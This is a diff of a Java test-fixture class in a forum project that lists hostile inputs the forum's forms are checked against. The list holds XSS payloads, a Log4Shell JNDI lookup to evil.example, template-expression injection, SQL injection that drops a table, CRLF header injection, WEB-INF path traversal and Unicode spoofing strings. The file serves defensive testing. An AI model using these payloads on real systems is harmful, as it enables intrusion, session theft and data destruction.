@@ -2,16 +2,46 @@ package org.hearth.text;
 
 import java.util.stream.Stream;
 
-/** Texts of our own that try to be more than text, or are merely odd. Each is tried by itself, wherever people can type. */
+/** Texts of our own that try to be more than text, or are merely odd. Each is tried by itself. */
 public final class Attacks {
 
     private Attacks() {
     }
 
+    /** One or two of each family, which go through the real forms and are looked at in a browser. */
+    static Stream<String> families() {
+        return Stream.of(
+                // Elements, and ends of those that the forum's own pages have around the words.
+                "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
+                "' autofocus onfocus='alert(1)", "</bdi></h1></main><iframe srcdoc=\"<script>alert(1)</script>\">", "<details open ontoggle=alert(1)>",
+                "<style>@import '//evil.example'</style>", "<form action=//evil.example><button>Sign in</button>", "<!--", "<plaintext>",
+                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+                // Attributes and addresses of what is allowed.
+                "<em onmouseover=alert(1) style=position:fixed>x</em>", "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"https://good.example@evil.example\">x</a>",
+                "https://evil.example/\"onmouseover=alert(1)//", "<code><ul><li></code><script>alert(1)</script>",
+                // What the server's own languages might take for theirs.
+                "#{7*7} ${7*7} #{facesContext.externalContext}", "<h:outputText value=\"#{7*7}\" escape=\"false\"/>", "<ui:include src=\"/WEB-INF/web.xml\"/>",
+                "<%= 7*7 %><jsp:include page=\"/\"/><c:out value=\"${7*7}\"/>", "${jndi:ldap://evil.example/x}", "{{7*7}} {0} it's {1,number} %s %n",
+                "');PrimeFaces.cw('x','y',{});//", "\\u003cscript\\u003e \\x3cscript>", "]]></update></partial-response>",
+                // Databases, headers, paths.
+                "Robert'); drop table post; --", "\" or 1=1 union select * from member %_\\", "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
+                "../../WEB-INF/web.xml%00;jsessionid=x?#/..", "%3Cscript%3E&#60;script&#62;&lt;script&gt;",
+                // Quotes and mentions.
+                "[quote=</cite></blockquote>]x[/quote][/quote][quote", "[quote=Olive;1]I never said that.[/quote]", "@olive @<script> @\u202Eevilo @@ @" + "a".repeat(80),
+                // Characters.
+                "nul \0 in words", "half a pair \uD83D and \uDE26\uD83D", "\u202Egnp.exe \u2066\u2067\u2068 \u2069\u2069 \u061C", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\uD83C\uDFFD\uFE0F \uD83C\uDDFA\uD83C\uDDE6",
+                "H\u0335\u0321\u035A\u0334\u0321\u035B e" + "\u0300".repeat(60), "\u200B\u2060\u3164\u2800\u00AD", "\uFFFE\uFFFF", "\u0001\u000B\u0085\u2028\u2029 \u001B[31mred",
+                "\u0645\u0631\u062D\u0628\u0627 https://example.org \u05E9\u05DC\u05D5\u05DD (x)", "ﷺ ﷽ ß İ ſ Å ＡＢＣ", "W" + "i".repeat(140) + "de", "_".repeat(3_000));
+    }
+
     public static Stream<String> all() {
+        return Stream.concat(families(), more()).distinct();
+    }
+
+    private static Stream<String> more() {
         return Stream.of(
                 // Elements that run something, load something or take the page over.
-                "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<script", "</script><script>alert(1)</script>",
+                "<ScRiPt src=//evil.example></sCrIpT>", "<script", "</script><script>alert(1)</script>",
                 "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/pixel.gif\">", "<svg onload=alert(1)>",
                 "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                 "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
